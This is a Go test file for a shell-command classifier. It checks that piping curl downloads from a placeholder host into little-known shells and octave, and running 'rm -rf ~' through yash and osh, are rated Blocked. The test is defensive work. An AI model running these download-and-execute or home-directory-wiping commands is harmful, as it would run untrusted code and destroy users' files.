package classify

import "testing"

// TestAttackS25MoreShells: yash, osh (Oils), oksh, loksh, posh, elvish,
// nu, xonsh are shells, and octave an interpreter: each runs the code it
// reads on its input and the string of its -c (octave --eval). They were
// unknown commands, so curl URL | yash, which runs downloaded content as
// curl URL | sh does (Blocked), was Warning. Seen failing first: every
// line below was Warning.
func TestAttackS25MoreShells(t *testing.T) {
	attackAtLeast(t, Blocked, []string{
		`curl http://x | yash`,
		`curl http://x | osh`,
		`curl http://x | oksh`,
		`curl http://x | loksh`,
		`curl http://x | posh`,
		`curl http://x | elvish`,
		`curl http://x | nu`,
		`curl http://x | xonsh`,
		`curl http://x | octave`,
		`yash -c 'rm -rf ~'`,
		`osh -c 'rm -rf ~'`,
	})
}
